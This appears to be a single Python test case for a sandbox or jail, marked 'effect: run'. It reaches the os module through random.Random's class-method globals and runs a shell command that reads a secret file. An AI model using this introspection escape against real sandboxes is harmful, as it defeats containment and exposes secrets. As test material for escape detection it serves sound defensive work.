# A class method's __func__.
# effect: run
import random
random.Random.__init_subclass__.__func__.__globals__["_os"].system("cat @SECRET@")
